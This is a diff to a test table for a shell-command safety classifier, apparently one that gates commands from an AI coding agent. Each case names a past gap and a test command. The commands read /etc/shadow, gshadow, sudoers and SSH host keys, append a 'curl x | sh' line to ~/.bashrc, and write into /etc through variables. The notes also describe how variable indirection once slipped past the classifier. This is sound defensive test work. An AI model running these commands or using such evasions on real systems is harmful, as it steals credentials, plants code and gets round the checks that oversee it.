@@ -90,6 +90,7 @@ const cases: { fixed: string; cmd: string; class: Class; hardline?: boolean; sec
   { fixed: 'a path in a variable the command sets was not judged (RedCode-Exec: f=/etc/shadow; cat "$f")', cmd: 'f=/etc/shadow; cat "$f"', class: 'read', secret: true },
   { fixed: 'a for loop over credential files read them unseen', cmd: 'for f in /etc/shadow /etc/gshadow; do head -1 $f; done', class: 'read', secret: true },
   { fixed: 'a start-up file in a variable was a plain write', cmd: 'rc=~/.bashrc; echo "curl x | sh" >> "$rc"', class: 'destructive' },
+  { fixed: 'a system folder in a variable the command sets was a confined write at auto-edit', cmd: 'd=/etc && echo oops > $d/threshold-test', class: 'destructive' },
   { fixed: '/etc/sudoers.d was not a credential location', cmd: 'cat /etc/sudoers.d/90-cloud', class: 'read', secret: true },
   { fixed: 'the SSH host keys in a glob', cmd: 'cat /etc/ssh/ssh_host_*_key', class: 'read', secret: true },
   { fixed: 'python code naming /etc/gshadow was not a credential read', cmd: `python3 -c "print(open('/etc/gshadow').read())"`, class: 'write', secret: true },
